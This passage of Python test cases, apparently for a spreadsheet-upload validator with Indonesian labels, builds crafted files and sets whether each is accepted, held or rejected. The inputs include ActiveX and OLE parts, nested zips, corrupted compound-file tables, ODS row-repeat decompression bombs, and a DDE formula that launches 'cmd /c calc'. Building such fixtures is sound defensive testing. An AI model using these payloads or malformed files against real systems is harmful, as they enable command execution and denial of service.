    Case("kueri", 43, HOLD, "isi-aktif", part("xl/queryTables/queryTable1.xml", b"<queryTable/>")),
    Case("objek", 43, HOLD, "isi-aktif", part("xl/embeddings/oleObject1.bin", b"x")),
    Case("kendali", 43, HOLD, "isi-aktif", part("xl/activeX/activeX1.xml", b"<a/>")),
    Case("menu-buatan", 43, HOLD, "isi-aktif", part("customUI/customUI.xml", b"<a/>")),
    Case("gambar-dari-luar", 43, HOLD, "isi-aktif", related("image", "http://127.0.0.1:9/x.png")),
    Case("sangat-tersembunyi", 44, HOLD, "isi-aktif", lambda f: f.book().add_sheet("Rahasia", '<row r="1"><c r="A1"><v>1</v></c></row>', state="veryHidden").save()),
    Case("lembar-lain", 44, ACCEPT, None, sheet_of('<row r="2"><c r="B2"><v>7</v></c></row>'), "di-luar-formulir", place=("Lain", "B2")),
    # --- not a workbook -----------------------------------------------------------------------------------------------------------------
    Case("html", 46, REJECT, "bukan-buku-kerja", lambda f: b"<html><table><tr><td>1</td></tr></table></html>", "bukan-buku-kerja"),
    Case("csv", 46, REJECT, "bukan-buku-kerja", lambda f: b"a;b\n1;2\n"),
    Case("pdf", 46, REJECT, "bukan-buku-kerja", lambda f: b"%PDF-1.4\n" + b"x" * 900),
    Case("xml-2003", 46, REJECT, "bukan-buku-kerja", lambda f: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'),
    Case("docx", 46, REJECT, "bukan-buku-kerja", lambda f: packed({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<a/>", "word/document.xml": b"<w/>"})),
    Case("odt", 46, REJECT, "bukan-buku-kerja", lambda f: packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"})),
    Case("zip-dalam-zip", 51, REJECT, "bukan-buku-kerja", lambda f: packed({"a.zip": packed({"b.zip": packed({"c.txt": b"x"})})})),
    # --- compound files and OpenDocument -----------------------------------------------------------------------------------------------------
    Case("cfb-jumlah-difat", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: b"x" * 5000}, header={72: b"\xff\xff\xff\xff"})),
    Case("cfb-jumlah-fat", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: b"x" * 5000}, header={44: b"\xff\xff\xff\x7f"})),
    Case("cfb-jumlah-minifat", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: b"x" * 5000}, header={64: b"\xff\xff\xff\x7f"})),
    Case("cfb-berputar", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: b"x" * 9000}, fat=lambda t: [*t[:5], 2, *t[6:]])),
    Case("cfb-direktori-berputar", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: b"x" * 9000}, fat=lambda t: [t[0], 1, *t[2:]])),
    Case("cfb-keluar", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: b"x" * 9000}, fat=lambda t: [*t[:5], 90_000, *t[6:]])),
    Case("cfb-terpotong", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: b"x" * 9000})[:5000]),
    Case("cfb-kepala-saja", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: b"x"})[:600]),
    Case("cfb-isi-kacau", 49, REJECT, "berkas-rusak", lambda f: compound({XLS_STREAM: bytes(range(256)) * 20})),
    Case("doc-lama", 46, REJECT, "bukan-buku-kerja", lambda f: compound({"WordDocument": b"x" * 5000})),
    Case("ods-ulang-raksasa", 50, REJECT, "melebihi-batas", lambda f: ods('<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>')),
    Case("ods-ulang-2-pangkat-32", 50, REJECT, "melebihi-batas", lambda f: ods('<table:table-row table:number-rows-repeated="4294967296"><table:table-cell office:value-type="float" office:value="1"/></table:table-row>')),
    Case("ods-ekor-biasa", 50, HOLD, "identitas-hilang", lambda f: ods('<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'), "format-lain"),
    Case("ods-dde", 41, HOLD, "isi-aktif", lambda f: ods('<table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></table:table-row>')),
    # --- the shape of the form ------------------------------------------------------------------------------------------------------------------
    Case("ketikan-di-luar", 27, ACCEPT, None, lambda f: f.book().rows("KKE", '<row r="300"><c r="H300" t="inlineStr"><is><t>catatan</t></is></c></row>').save(), "di-luar-formulir", place=("KKE", "H300")),
    Case("lembar-hilang", 32, ACCEPT, None, lambda f: f.book().drop_sheet("Kegiatan").save(), "tabel-hilang"),
    # --- identity ---------------------------------------------------------------------------------------------------------------------------------
    Case("identitas-satu-hilang", 10, ACCEPT, None, lambda f: packed({n: c for n, c in f.parts.items() if n != "docProps/custom.xml"}), "identitas-berkurang"),
    Case("identitas-hilang", 10, HOLD, "identitas-hilang", without_token, "dikenali-dari-susunan"),
    Case("identitas-berubah", 10, HOLD, "identitas-berubah", lambda f: token_changed(f, "|AAA|", "|BBB|"), "identitas-berubah"),
    Case("identitas-tahun-lain", 9, HOLD, "identitas-berubah", lambda f: token_changed(f, "|2026|", "|2027|")),
)
